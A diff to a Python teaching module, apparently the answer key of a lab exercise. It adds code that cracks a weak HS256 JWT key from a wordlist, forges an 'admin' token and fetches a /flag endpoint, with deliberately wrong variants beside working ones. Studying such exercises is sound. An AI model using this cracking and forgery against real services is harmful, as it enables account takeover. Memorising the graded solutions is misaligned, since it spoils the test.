@@ -4,16 +4,20 @@ import base64
 import copy
 import hashlib
 import hmac
+import itertools
 import json
 import re
 import unicodedata
+import urllib.request
 from typing import Any
 from urllib.parse import unquote, urljoin, urlsplit
 
 import jwt
+import requests
 from jwt.utils import base64url_decode, base64url_encode
 
 from demo_server.notebook import lesson
+from demo_server.notebook.wordlist import words
 
 
 def read_part(part: str) -> Any:
@@ -631,6 +635,12 @@ def may_follow__right_5(header: dict[str, Any], trusted: list[str]) -> bool:
     return re.fullmatch("|".join(map(re.escape, trusted)), jku) is not None
 
 
+ALL_OFF = {
+    "verify_exp": False, "verify_aud": False, "verify_iat": False, "verify_nbf": False,
+    "verify_iss": False, "verify_sub": False, "verify_jti": False,
+}  # fmt: skip
+
+
 def signed(token: str, key: bytes) -> bool:
     text, _, signature = token.rpartition(".")
     mac = hmac.digest(key, text.encode(), "sha256")
@@ -912,3 +922,136 @@ def stopped_by__right_3(token: str, key: bytes, now: int) -> str:
         return str(error)
     else:
         return "accepted"
+
+
+def fits(token: str, word: str) -> bool:
+    return signed(token, word.encode())
+
+
+def crack(token: str) -> str:
+    return next(word for word in words()[:120] if fits(token, word))
+
+
+def forged(token: str, word: str, **changed: Any) -> str:
+    header, payload, _ = token.split(".")
+    text = f"{header}.{write_part(read_part(payload) | changed)}"
+    return text + "." + b64(hmac.digest(word.encode(), text.encode(), "sha256"))
+
+
+def flag_by_forging__wrong_8(url: str, token: str) -> str:
+    """Breaks "among the first 120 words": tries 119 (off by one at the end)."""
+    for number in range(119):
+        word = words()[number]
+        if fits(token, word):
+            cookies = {"mytoken": forged(token, word, id="admin")}
+            return requests.get(url + "/flag", cookies=cookies).json()["msg"]
+    raise LookupError("no word fits")
+
+
+def flag_by_forging__wrong_9(url: str, token: str) -> str:
+    """Breaks "among the first 120 words": begins at 1, so the first word is never tried."""
+    for number in range(1, 121):
+        word = words()[number]
+        if fits(token, word):
+            cookies = {"mytoken": forged(token, word, id="admin")}
+            return requests.get(url + "/flag", cookies=cookies).json()["msg"]
+    raise LookupError("no word fits")
+
+
+_key: list[str] = []
+
+
+def flag_by_forging__wrong_10(url: str, token: str) -> str:
+    """Breaks "Its flags, its key … are others each time": keeps the key of the first call."""
+    if not _key:
+        _key.append(crack(token))
+    cookies = {"mytoken": forged(token, _key[0], id="admin")}
+    return requests.get(url + "/flag", cookies=cookies).json()["msg"]
+
+
+def flag_by_forging__wrong_11(url: str, token: str) -> str:
+    """Breaks "bother the server once": looks at /temp first whether the token is good, then goes to /flag."""
+    cookies = {"mytoken": forged(token, crack(token), id="admin")}
+    if requests.get(url + "/temp", cookies=cookies).ok:
+        return requests.get(url + "/flag", cookies=cookies).json()["msg"]
+    return ""
+
+
+def flag_by_forging__wrong_12(url: str, token: str) -> str:
+    """Breaks "At `/flag`": opens /temp and returns the greeting."""
+    cookies = {"mytoken": forged(token, crack(token), id="admin")}
+    return requests.get(url + "/temp", cookies=cookies).json()["msg"]
+
+
+def flag_by_forging__wrong_15(url: str, token: str) -> str:
+    """Breaks "a flag for `admin`": Admin with a capital is another id."""
+    cookies = {"mytoken": forged(token, crack(token), id="Admin")}
+    return requests.get(url + "/flag", cookies=cookies).json()["msg"]
+
+
+def flag_by_forging__wrong_18(url: str, token: str) -> str:
+    """Breaks "The key is among the first 120 words": takes small letters only, so a key with capitals is never found."""
+    for word in words()[:120]:
+        if fits(token, word.lower()):
+            cookies = {"mytoken": forged(token, word.lower(), id="admin")}
+            return requests.get(url + "/flag", cookies=cookies).json()["msg"]
+    raise LookupError("no word fits")
+
+
+def flag_by_forging__wrong_19(url: str, token: str) -> str:
+    """Breaks "in the cookie `mytoken`": the cookie is called token."""
+    cookies = {"token": forged(token, crack(token), id="admin")}
+    return requests.get(url + "/flag", cookies=cookies).json()["msg"]
+
+
+def flag_by_forging__right_1(url: str, token: str) -> str:
+    # right: urllib, and PyJWT for the signature only (its clock stays out)
+    for word in words():
+        try:
+            claims = jwt.decode(token, word, algorithms=["HS256"], options=ALL_OFF)
+        except jwt.InvalidSignatureError:
+            continue
+        break
+    else:
+        raise LookupError("no word fits")
+    claims["id"] = "admin"
+    asked = urllib.request.Request(
+        url + "/flag", headers={"Cookie": "mytoken=" + jwt.encode(claims, word, algorithm="HS256")}
+    )
+    no_proxy = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+    with no_proxy.open(asked, timeout=10) as answer:
+        return json.load(answer)["msg"]
+
+
+def flag_by_forging__right_2(url: str, token: str) -> str:
+    # right: a Session without redirects; the header built by hand; a token without exp, which this server takes
+    (word,) = (w for w in dict.fromkeys(words()[:120]) if fits(token, w))
+    with requests.Session() as session:
+        session.trust_env = False
+        session.cookies.set("mytoken", jwt.encode({"id": "admin"}, word.encode()))
+        answer = session.get(f"{url}/flag", allow_redirects=False, timeout=10)
+    answer.raise_for_status()
+    return answer.json()["msg"]
+
+
+# right: a lambda over helpers
+flag_by_forging__right_3 = lambda url, token: (  # noqa: E731
+    requests.get(
+        f"{url}/flag", cookies={"mytoken": forged(token, crack(token), id="admin")}, timeout=10
+    ).json()["msg"]
+)
+
+
+def flag_by_forging__right_4(url: str, token: str) -> str:
+    # right: http.client
+    import http.client
+
+    found = itertools.dropwhile(lambda word: not fits(token, word), words())
+    address = urlsplit(url)
+    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=10)
+    try:
+        made = forged(token, next(found), id="admin")
+        connection.request("GET", "/flag", headers={"Cookie": f"mytoken={made}"})
+        return json.loads(connection.getresponse().read())["msg"]
+    finally:
+        connection.close()
